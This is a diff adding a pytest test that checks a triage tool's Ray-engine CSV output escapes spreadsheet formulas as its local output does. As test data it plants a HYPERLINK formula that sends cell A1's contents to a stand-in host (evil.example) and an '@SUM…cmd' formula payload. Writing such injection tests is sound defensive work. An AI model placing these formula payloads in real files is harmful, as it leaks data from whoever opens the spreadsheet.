@@ -292,6 +292,24 @@ def test_triage_plain_map_through_the_cli_matches_local_in_file_order(ray_cluste
     pd.testing.assert_frame_equal(eng.read_output(str(tmp_path / "out")), local.drop(columns=["line"]).reset_index(drop=True), check_dtype=False)
 
 
+@pytest.mark.ray
+def test_a_csv_written_on_ray_neutralises_formulas_as_the_local_one_does(ray_cluster, tmp_path, capsys):
+    """`score triage … --engine ray -o out.csv` wrote a complaint `=HYPERLINK(…)` as a live formula, where the local output
+    writes `'=HYPERLINK(…)` (a review, 2026-12-07): the partitions go through tables.safe_cells, as to_safe_csv does."""
+    from usecases.triage.cohort import CohortConfig, generate
+
+    f = tmp_path / "patients.csv"
+    df = generate(CohortConfig(n=60, seed=9)).drop(columns=["level", "nurse_level"])
+    df["complaint"] = df["complaint"].astype(object)
+    df.loc[[3, 17], "complaint"] = ['=HYPERLINK("http://evil.example/?"&A1,"chest pain")', "@SUM(1+1)*cmd"]
+    df.to_csv(f, index=False)
+    rc = main(["score", "triage", str(f), "-o", str(tmp_path / "out.csv"), "--engine", "ray", "--workers", "1"])
+    assert rc == 0, capsys.readouterr().err
+    out = eng.read_output(str(tmp_path / "out.csv"))
+    assert out.loc[3, "complaint"] == '\'=HYPERLINK("http://evil.example/?"&A1,"chest pain")' and out.loc[17, "complaint"] == "'@SUM(1+1)*cmd"
+    assert not any(str(v).startswith(("=", "@", "+")) for col in out.columns for v in out[col]), "a live formula cell"
+
+
 def _small_corpus():
     """About 150 KB of generated code (the test needs a corpus that is quick to tokenise, not the 27 MB stack corpus)."""
     from usecases.textgen.corpus import read_corpus
